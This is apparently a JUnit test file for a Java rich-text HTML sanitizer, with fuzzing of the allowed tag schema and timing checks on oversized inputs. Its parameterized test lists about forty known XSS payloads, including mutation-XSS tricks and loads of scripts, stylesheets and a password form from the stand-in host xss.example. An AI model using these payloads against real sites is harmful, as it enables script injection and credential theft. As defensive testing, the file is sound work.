package org.sanchika.text;

import static org.assertj.core.api.Assertions.assertThat;
import static org.sanchika.text.RichTextTests.text;

import java.lang.management.ManagementFactory;
import java.lang.management.ThreadMXBean;
import java.time.Duration;
import java.util.Random;
import java.util.Set;
import org.jsoup.Jsoup;
import org.jsoup.nodes.Attribute;
import org.jsoup.nodes.Element;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/** Attempts to get a script, a style or a foreign address through, and to make the reading slow. */
class RichTextAttackTests {
    private static final Set<String> ALLOWED = Set.of(
            "p",
            "ul",
            "ol",
            "li",
            "table",
            "tbody",
            "tr",
            "th",
            "td",
            "blockquote",
            "br",
            "strong",
            "em",
            "u",
            "sub",
            "sup",
            "a");

    @ParameterizedTest
    @ValueSource(
            strings = {
                "<script>alert(1)</script>",
                "<SCRIPT SRC=https://xss.example/xss.js></SCRIPT>",
                "<img src=x onerror=alert(1)>",
                "<IMG SRC=\"jav&#x0A;ascript:alert('XSS');\">",
                "<IMG \"\"\"><SCRIPT>alert(\"XSS\")</SCRIPT>\">",
                "<IMG SRC=# onmouseover=\"alert('xxs')\">",
                "<a href=\"javascript:alert(1)\">x</a>",
                "<a href=\"jAvAsCrIpT&colon;alert(1)\">x</a>",
                "<a href=\" &#14;  javascript:alert(1)\">x</a>",
                "<a href=\"data:text/html;base64,PHNjcmlwdD4=\">x</a>",
                "<a href=\"vbscript:msgbox(1)\">x</a>",
                "<a href='#c-1' onclick='alert(1)' style='position:fixed;inset:0' target=_blank class=btn id=x>x</a>",
                "<a href='/files/1&#10;onclick=x'>x</a>",
                "<a xlink:href=\"javascript:alert(1)\">x</a>",
                "<svg onload=alert(1)><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
                "<svg><script>alert&#40;1)</script></svg>",
                "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
                "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
                "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
                "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
                "<iframe src=javascript:alert(1)>",
                "<object data=javascript:alert(1)></object><embed src=x.swf>",
                "<body onload=alert(1)><p onmouseover=alert(1)>x</p>",
                "<div style=\"background-image:url(javascript:alert(1))\">x</div>",
                "<style>@import'https://xss.example/x.css';</style>",
                "<link rel=stylesheet href=https://xss.example/x.css><base href=//xss.example>",
                "<meta http-equiv=refresh content=\"0;url=javascript:alert(1)\">",
                "<table background=\"javascript:alert(1)\"><td background=x onclick=y>z",
                "<td colspan=\"1\" onclick=x>z</td>",
                "<p id=main name=csrf class=btn data-act=send>x</p>",
                "<details open ontoggle=alert(1)>x</details>",
                "<input autofocus onfocus=alert(1)><select><option>x</select><textarea></textarea><script>1</script>",
                "<form action=https://xss.example><input name=password><button>OK</button></form>",
                "<<SCRIPT>alert(1);//\\<</SCRIPT>",
                "<scr<script>ipt>alert(1)</scr</script>ipt>",
                "<p>&lt;script&gt;alert(1)&lt;/script&gt;</p>",
                "<xmp><p title=\"</xmp><img src=x onerror=alert(1)>\">",
                "<plaintext><img src=x onerror=alert(1)>",
                "<!--[if gte IE 4]><SCRIPT>alert(1);</SCRIPT><![endif]-->",
                "<![CDATA[<img src=x onerror=alert(1)>]]>",
                "<?xml version=\"1.0\"?><script>1</script>",
                "<template><script>alert(1)</script></template>",
                "<custom-element onclick=alert(1)><slot>x</slot></custom-element>",
                "<ol start=\"1 onclick=x\"><li value=9 onclick=x>z</ol>",
                "\u0000<scr\u0000ipt>alert(1)</scr\u0000ipt>"
            })
    void letsNothingThrough(String attempt) {
        String html = text("<p>क</p>" + attempt).html();

        assertThat(html).startsWith("<p>क");
        assertOnlyTheSchema(html);
        assertThat(text(html).html()).isEqualTo(html);
    }

    @Test
    void keepsTheSchemaWhateverComes() {
        String[] pieces = {
            "<p>",
            "</p>",
            "<table>",
            "<tr>",
            "<td rowspan=3>",
            "<th colspan=2>",
            "</table>",
            "<ul>",
            "<li>",
            "</ul>",
            "<ol start=7>",
            "<blockquote>",
            "</blockquote>",
            "<b>",
            "</b>",
            "<a href=#c-1>",
            "<a href=x>",
            "</a>",
            "<br>",
            "<i>",
            "</i>",
            "<svg>",
            "<math>",
            "<style>",
            "</style>",
            "<script>",
            "</script>",
            "<!--",
            "-->",
            "क",
            " ",
            "&nbsp;",
            "&lt;",
            "<",
            "\u202e",
            "\ud800",
            "<sub>",
            "<sup>",
            "<p style='mso-list:l0 level3 lfo1'>",
            "<p style='mso-list:l0 level1 lfo1'>",
            "<div style='display:none'>",
            "</div>",
            "<template>",
            "<select>"
        };
        Random dice = new Random(1974);
        for (int round = 0; round < 4000; round++) {
            StringBuilder soup = new StringBuilder();
            for (int i = dice.nextInt(40); i >= 0; i--) {
                soup.append(pieces[dice.nextInt(pieces.length)]);
            }
            String html = text(soup.toString()).html();
            assertOnlyTheSchema(html);
            assertThat(text(html).html()).as("%s", soup).isEqualTo(html);
        }
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "<b>",
                "<div>",
                "<ul><li>",
                "<table><tr><td>",
                "<blockquote>",
                "<a href=#c-1>",
                "<p><b><i><u>",
                "<font><p>",
                "</p>",
                "<svg>",
                "<p style='mso-list:l0 level1 lfo1'>",
                "<td rowspan=500 colspan=30>",
                "<table>",
                "&",
                "<",
                "\u200d",
                "<b></p><i>",
                "<li>"
            })
    void staysQuickWhenMocked(String piece) {
        long tags = Math.max(piece.chars().filter(character -> character == '<').count(), 1);
        String endless = piece.repeat((int) Math.min(199_000 / tags, (RichText.LARGEST - 1) / piece.length()));
        ThreadMXBean threads = ManagementFactory.getThreadMXBean();

        long began = threads.getCurrentThreadCpuTime();
        assertThat(RichText.of(endless)).isNotNull();
        assertThat(Duration.ofNanos(threads.getCurrentThreadCpuTime() - began)).isLessThan(Duration.ofSeconds(4));
    }

    @Test
    void refusesMoreTagsThanAnybodyWrites() {
        assertThat(RichText.of("<b>x".repeat(200_001)))
                .isEqualTo(new RichTextOutcome.Refused(RichTextOutcome.Why.TOO_LARGE, RichText.LARGEST));
    }

    @Test
    void readsALongNoteInAFewMilliseconds() {
        String page =
                "<p>कंडिका 12 एवं 14 से <strong>सहमत</strong>। लागत वृद्धि का कारण <a href=\"#c-4\">पत्र 4</a> से पुष्ट है।</p>"
                        .repeat(18);
        String note = page.repeat(30);
        ThreadMXBean threads = ManagementFactory.getThreadMXBean();
        long best = Long.MAX_VALUE;
        for (int i = 0; i < 200; i++) {
            long began = threads.getCurrentThreadCpuTime();
            assertThat(text(note).isEmpty()).isFalse();
            best = Math.min(best, threads.getCurrentThreadCpuTime() - began);
        }

        assertThat(Duration.ofNanos(best)).isLessThan(Duration.ofMillis(25));
    }

    private static void assertOnlyTheSchema(String html) {
        for (Element element : Jsoup.parseBodyFragment(html).body().getAllElements()) {
            if (element.nameIs("body")) {
                continue;
            }
            assertThat(ALLOWED).as(html).contains(element.normalName());
            for (Attribute attribute : element.attributes()) {
                assertThat(attribute.getKey() + "=" + attribute.getValue())
                        .as(html)
                        .matches(
                                "href=(#[cpn]-\\d+|/files/\\d+(#[cpn]-\\d+)?|/receipts/\\d+|/authorities/\\d+)|(colspan|rowspan|start)=\\d{1,3}");
            }
        }
    }
}
